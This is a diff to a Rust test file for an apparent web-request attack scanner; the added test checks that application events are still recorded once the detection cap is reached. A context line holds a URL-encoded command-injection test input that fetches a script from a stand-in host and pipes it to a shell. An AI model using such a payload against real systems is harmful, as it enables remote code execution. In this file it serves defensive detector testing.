@@ -2,7 +2,8 @@
 
 use super::category::Severity;
 use super::rule_set::RuleSet;
-use super::scan::{Detection, Scan};
+use super::scan::{Detection, Note, Scan};
+use super::signal::Signal;
 use crate::exchange::Head;
 use crate::read::place::Place;
 use crate::read::{self, Field};
@@ -90,6 +91,24 @@ fn one_detection_for_each_rule_and_place() {
     let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
     assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
     assert!(many.len() < super::scan::DETECTIONS);
+}
+
+#[test]
+fn no_request_is_so_full_that_the_application_is_not_heard() {
+    let rules = RuleSet::builtin();
+    let mut scan = Scan::new();
+    for (number, example) in (0_u8..3).flat_map(|number| EXAMPLES.iter().map(move |example| (number, example))) {
+        let name = if example.name == "x" { format!("x{number}") } else { example.name.to_owned() };
+        for value in example.matches.iter().map(|value| value.as_bytes()) {
+            scan.push(&rules, Field { place: example.place, name: name.as_bytes(), value, encoded: false });
+        }
+    }
+    assert_eq!(scan.detections().len(), super::scan::DETECTIONS);
+    let field = Field { place: Place::Answer, name: b"", value: b"", encoded: false };
+    for name in ["a", "a", "b"].map(|name| Some(name.to_owned())) {
+        scan.note_as(&rules, Signal::ApplicationEvent, field, Note { name, ..Note::default() });
+    }
+    assert_eq!(scan.detections().len(), super::scan::DETECTIONS + 2);
 }
 
 #[test]
